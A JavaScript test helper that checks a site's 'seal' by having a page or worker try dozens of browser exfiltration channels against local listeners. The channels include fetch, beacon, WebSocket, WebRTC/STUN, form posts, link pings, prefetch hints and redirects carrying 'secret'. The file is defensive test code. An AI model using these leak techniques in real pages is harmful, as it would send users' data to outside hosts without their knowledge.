/**
 * What the tests of the seal share: the site on a host that sends no headers, a second origin, and a listener for packets.
 * Every way out that a hostile script would try is in WAYS.
 */
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { serve } from '../../scripts/serve.mjs';

const listening = (server) => new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));

/** Listens wherever something could arrive. `heard` is what did, besides the files of the site. */
export async function listeners(folder) {
  const heard = [];
  const own = await serve(folder, 0);
  own.on('request', (request) => heard.push(`own ${request.method} ${request.url}`));
  const other = createServer((request, response) => {
    heard.push(`other ${request.method} ${request.url}`);
    response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  other.on('upgrade', (request, socket) => { heard.push(`other upgrade ${request.url}`); socket.destroy(); });
  await listening(other);
  const packets = createSocket('udp4');
  packets.on('message', (message) => heard.push(`packet of ${message.length} bytes`));
  await new Promise((resolve) => packets.bind(0, '127.0.0.1', resolve));
  const at = (server) => `http://127.0.0.1:${server.address().port}`;
  const close = () => Promise.all([
    new Promise((resolve) => { own.closeAllConnections(); own.close(resolve); }),
    new Promise((resolve) => { other.closeAllConnections(); other.close(resolve); }),
    new Promise((resolve) => packets.close(resolve)),
  ]).catch(() => {});
  return { heard, own: at(own), other: at(other), stun: `stun:127.0.0.1:${packets.address().port}`, kill: () => { own.closeAllConnections(); own.close(); }, close };
}

/** Ways that may end the page itself, which each get one of their own. */
export const ALONE = [
  'WebRTC of an empty frame', 'fetch of an empty frame', 'fetch of an empty window', 'window of another host', 'refresh by meta', 'location',
];

/** Runs in the page or in its worker; says how each way ended as far as the script itself can tell. */
export async function tryAll({ own, other, stun, alone = [], only = null }) {
  const said = {};
  const soon = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 1500, 'no answer'))]);
  const attempt = async (name, go) => {
    if (only ? name !== only : alone.includes(name)) return;
    try {
      said[name] = String((await soon(go())) ?? 'done');
    } catch (fault) {
      said[name] = fault.name;
    }
  };
  const loaded = (element, place = document.head) => new Promise((resolve) => {
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('refused');
    place.append(element);
  });
  const made = (tag, properties) => Object.assign(document.createElement(tag), properties);
  const hasPage = typeof document !== 'undefined';

  await attempt('fetch, own host', () => fetch(`${own}/leak-fetch`));
  await attempt('fetch, other host', () => fetch(`${other}/leak-fetch`, { mode: 'no-cors' }));
  await attempt('fetch, kept alive', () => fetch(`${other}/leak-alive`, { mode: 'no-cors', keepalive: true }));
  await attempt('XMLHttpRequest', () => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve('sent');
    request.onerror = () => resolve('refused');
    request.open('POST', `${own}/leak-xhr`);
    request.send('secret');
  }));
  await attempt('EventSource', () => new Promise((resolve) => { new EventSource(`${own}/leak-events`).onerror = () => resolve('refused'); }));
  await attempt('WebSocket', () => new Promise((resolve) => { new WebSocket(`${other.replace('http', 'ws')}/leak-socket`).onerror = () => resolve('refused'); }));
  await attempt('WebTransport', () => new WebTransport(`${other.replace('http:', 'https:')}/leak-transport`).ready);
  await attempt('import()', () => import(`${own}/leak-import.js`));
  await attempt('eval', async () => (0, eval)('1') && 'ran');
  await attempt('worker by address', () => new Promise((resolve) => {
    const worker = new Worker(`${own}/leak-worker.js`);
    worker.onerror = () => resolve('refused');
  }));
  await attempt('shared worker', () => new Promise((resolve) => { new SharedWorker(`${own}/leak-shared.js`).onerror = () => resolve('refused'); }));
  await attempt('WebRTC', async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1000));
    return 'offered';
  });
  if (!hasPage) {
    await attempt('importScripts', async () => importScripts(`${own}/leak-scripts.js`));
    await attempt('worker of a worker', () => new Promise((resolve) => {
      const code = `fetch('${own}/leak-nested').then(() => postMessage('sent'), () => postMessage('refused'))`;
      new Worker(URL.createObjectURL(new Blob([code]))).onmessage = ({ data }) => resolve(data);
    }));
    return said;
  }
  await attempt('beacon', async () => (navigator.sendBeacon(`${own}/leak-beacon`, 'secret') ? 'queued' : 'refused'));
  await attempt('image', () => loaded(made('img', { src: `${own}/leak-image.png` })));
  await attempt('style sheet', () => loaded(made('link', { rel: 'stylesheet', href: `${other}/leak.css` })));
  await attempt('font', () => new FontFace('x', `url(${own}/leak.woff2)`).load());
  await attempt('script', () => loaded(made('script', { src: `${own}/leak.js` })));
  await attempt('video', () => loaded(made('video', { src: `${own}/leak.mp4`, preload: 'auto' })));
  await attempt('frame', async () => {
    document.body.append(made('iframe', { src: `${other}/leak-frame` }));
  });
  await attempt('object', () => loaded(made('object', { data: `${other}/leak-object` }), document.body));
  for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'prerender']) {
    await attempt(`link ${rel}`, async () => void document.head.append(made('link', { rel, as: 'fetch', href: `${other}/leak-${rel}` })));
  }
  await attempt('form', async () => {
    const form = made('form', { action: `${other}/leak-form`, method: 'post', target: 'sink' });
    document.body.append(form);
    form.submit();
  });
  await attempt('ping of a link', async () => {
    const link = made('a', { href: '#x', ping: `${other}/leak-ping` });
    document.body.append(link);
    link.click();
  });
  await attempt('WebRTC of an empty frame', async () => {
    const frame = made('iframe', {});
    document.body.append(frame);
    const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: stun }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1000));
    return 'offered';
  });
  await attempt('fetch of an empty frame', () => {
    const frame = made('iframe', {});
    document.body.append(frame);
    return frame.contentWindow.fetch(`${own}/leak-empty-frame`);
  });
  await attempt('fetch of an empty window', async () => {
    const opened = window.open('about:blank');
    if (!opened) return 'refused';
    try {
      await soon(opened.fetch(`${own}/leak-empty-window`));
      return 'sent';
    } finally {
      opened.close();
    }
  });
  await attempt('window of another host', async () => {
    const opened = window.open(`${other}/leak-window?secret`);
    setTimeout(() => opened?.close(), 1000);
    return opened ? 'opened' : 'refused';
  });
  await attempt('refresh by meta', async () => void document.head.append(made('meta', { httpEquiv: 'refresh', content: `0;url=${other}/leak-refresh?secret` })));
  await attempt('location', async () => { location.href = `${other}/leak-location?secret`; });
  return said;
}

/** The name of the way in what was heard: `leak-fetch`, `packet of 20 bytes`. */
export const leaks = (heard) => [...new Set(heard.filter((line) => /leak|packet|secret/.test(line)))].sort();
